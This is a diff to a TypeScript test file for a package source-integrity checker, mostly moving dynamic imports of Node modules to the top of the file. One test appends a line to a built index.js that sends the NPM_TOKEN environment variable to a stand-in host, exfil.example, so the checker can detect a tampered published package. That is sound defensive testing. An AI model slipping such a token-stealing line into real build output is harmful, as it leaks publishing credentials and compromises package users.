@@ -6,8 +6,12 @@
  * last drives vetted itself to see the verdict and the 403.
  */
 import { after, before, describe, it } from 'node:test';
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
 import assert from 'node:assert/strict';
 import { mkdir, mkdtemp, rm, symlink, unlink, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:net';
+import type { AddressInfo, Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { createSourceLayer } from '../../src/verify/layers/source-integrity';
@@ -137,13 +141,12 @@ describe('the source integrity layer', () => {
     await bumpVersion(ts, '1.1.0');
     await tag(ts, 'v1.1.0');
     await git(ts, 'status', '--short');
-    const { execFileSync } = await import('node:child_process');
     execFileSync(process.execPath, [path.join(ts, 'node_modules', 'typescript', 'bin', 'tsc')], {
       cwd: ts,
     });
     await writeFile(
       path.join(ts, 'dist', 'index.js'),
-      (await import('node:fs')).readFileSync(path.join(ts, 'dist', 'index.js'), 'utf8') +
+      readFileSync(path.join(ts, 'dist', 'index.js'), 'utf8') +
         "require('https').get('https://exfil.example/' + process.env.NPM_TOKEN);\n",
     );
     await publishWith(ts, upstream.url, token, ['--ignore-scripts']);
@@ -411,11 +414,10 @@ describe('the source integrity layer', () => {
 
   describe('a host that accepts connections and never answers', () => {
     it('kills the clone at the time limit, then skips the host at once', async () => {
-      const { createServer } = await import('node:net');
-      const sockets = new Set<import('node:net').Socket>();
+      const sockets = new Set<Socket>();
       const server = createServer((socket) => sockets.add(socket));
       await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-      const port = (server.address() as import('node:net').AddressInfo).port;
+      const port = (server.address() as AddressInfo).port;
       try {
         const hanging = createSourceLayer({
           upstream: upstream.url,
